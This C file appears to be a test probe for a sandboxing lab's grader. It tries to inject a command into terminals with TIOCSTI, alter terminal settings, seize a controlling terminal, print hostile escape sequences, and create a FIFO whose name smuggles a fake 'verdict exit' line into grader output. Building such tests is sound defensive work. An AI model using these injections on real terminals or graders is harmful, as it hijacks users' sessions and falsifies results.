/*
 * Types into the terminal, changes its settings, sends it escape sequences,
 * and leaves a FIFO whose name has some. Only what the FIFO is called may be
 * reported.
 *
 * Lab: hello
 * Expect: LEAK
 * Marks: 10
 * Seconds: 60
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <termios.h>
#include <unistd.h>

static void
attack(int fd)
{
	struct termios settings;
	char typed[] = "touch typed-by-a-hostile-program\n";

	for (char *c = typed; *c != '\0'; c++)
		if (ioctl(fd, TIOCSTI, c) == 0)
			puts("breach: typed");
	if (tcgetattr(fd, &settings) == 0) {
		settings.c_lflag &= ~(tcflag_t)(ECHO | ICANON);
		if (tcsetattr(fd, TCSANOW, &settings) == 0)
			puts("breach: changed the terminal");
	}
	if (ioctl(fd, TIOCSCTTY, 1) == 0)
		puts("breach: took the terminal");
}

int
main(void)
{
	int tty = open("/dev/tty", O_RDWR);
	char path[32];

	if (tty != -1)
		puts("breach: /dev/tty");
	for (int fd = 0; fd < 3; fd++)
		attack(fd);
	for (int i = 0; i < 64; i++) {
		snprintf(path, sizeof(path), "/dev/pts/%d", i);
		int fd = open(path, O_RDWR);
		if (fd != -1)
			attack(fd);
	}
	puts("\033]0;owned\a\033[2J\033c\033P+q\033\\");
	mkfifo("\033]0;owned\a\nverdict exit\tleft", 0600);
	return 0;
}
